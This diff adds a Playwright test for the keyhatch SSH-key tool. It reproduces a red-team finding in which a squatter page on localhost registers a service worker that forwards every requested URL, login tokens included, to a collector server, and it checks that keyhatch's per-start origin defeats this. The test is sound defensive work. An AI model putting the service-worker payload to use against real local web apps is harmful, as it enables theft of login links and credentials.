@@ -4,7 +4,7 @@ import { createConnection, createServer, AddressInfo } from "node:net";
 import { rmSync } from "node:fs";
 import { join } from "node:path";
 import { request } from "@playwright/test";
-import { TOKEN, expect, openSshKeys, startKeyhatch, stop, test } from "./app";
+import { TOKEN, expect, openSshKeys, scriptsRun, startKeyhatch, stop, test } from "./app";
 
 test.describe("the session cookie", () => {
 // The other port's page (its favicon, once it is closed: refused, or reset when the stand-in
@@ -71,6 +71,67 @@ test.describe("over a Unix socket", () => {
     } finally {
       forward.close();
       await stop(child);
+      rmSync(runtime, { recursive: true, force: true });
+    }
+  });
+});
+
+test.describe("an origin of its own for each start", () => {
+  // The worker's reports to the collector, and the stand-in's favicon once it is closed.
+  test.use({ allowConsoleErrors: ["ERR_CONNECTION_REFUSED", "ERR_CONNECTION_RESET"] });
+
+  // Red team (helper-49): another account held keyhatch's port while it was down and left a
+  // service worker at http://127.0.0.1:PORT; it took the next login link the person opened
+  // there and made a key for itself. The link now opens an origin nobody served before.
+  test("a service worker another account left on keyhatch's port never sees its login", async ({ page, home }) => {
+    test.skip(!scriptsRun(), "the squatter's page needs its script to plant the worker");
+    const listen = (server: ReturnType<typeof createHttpServer>) =>
+      new Promise<number>((resolve) => server.listen(0, "127.0.0.1", () => resolve((server.address() as AddressInfo).port)));
+    const seen: string[] = [];
+    const collector = createHttpServer((req, res) => {
+      seen.push(decodeURIComponent(req.url ?? ""));
+      res.end();
+    });
+    const collectorPort = await listen(collector);
+    const worker = `self.addEventListener("install", () => self.skipWaiting());
+      self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
+      self.addEventListener("fetch", (e) => {
+        fetch("http://127.0.0.1:${collectorPort}/seen?" + encodeURIComponent(e.request.url), { mode: "no-cors" });
+      });`;
+    const squatter = createHttpServer((req, res) => {
+      if (req.url === "/sw.js") {
+        res.setHeader("content-type", "text/javascript");
+        return res.end(worker);
+      }
+      res.setHeader("content-type", "text/html");
+      res.end(`<title>squatter</title><script>navigator.serviceWorker.register("/sw.js")
+        .then(() => navigator.serviceWorker.ready).then(() => { document.title = "planted"; });</script>`);
+    });
+    const port = await listen(squatter);
+    await page.goto(`http://127.0.0.1:${port}/`);
+    await expect(page).toHaveTitle("planted");
+    // The worker sees what is opened on its origin.
+    await page.goto(`http://127.0.0.1:${port}/probe`);
+    await expect.poll(() => seen.some((u) => u.includes(`127.0.0.1:${port}/probe`))).toBe(true);
+    squatter.closeAllConnections();
+    await new Promise((resolve) => squatter.close(resolve));
+
+    const { child, link, origin, runtime } = await startKeyhatch(["--addr", `127.0.0.1:${port}`, "--home", home]);
+    try {
+      await page.goto(link);
+      await expect(page).toHaveURL(`${origin}/ssh-keys`);
+      await expect(page.getByRole("heading", { name: "SSH Keys" })).toBeVisible();
+      await expect(page.locator("main[data-hydrated=true]")).toBeAttached();
+      await page.getByRole("button", { name: "+ New Key" }).click();
+      await page.getByRole("dialog", { name: "Generate SSH Key" }).getByRole("button", { name: "Generate Key" }).click();
+      const created = page.getByRole("dialog", { name: "SSH Key Generated" });
+      await expect(created.locator("[data-field=type]")).toHaveText("ssh-ed25519");
+      const reported = seen.filter((u) => u.includes("token=") || u.includes(".localhost") || u.includes("/api/"));
+      expect(reported, "what the planted worker saw of keyhatch").toEqual([]);
+      expect(origin).toMatch(new RegExp(`^http://k[0-9a-f]{32}\\.localhost:${port}$`));
+    } finally {
+      await stop(child);
+      collector.close();
       rmSync(runtime, { recursive: true, force: true });
     }
   });
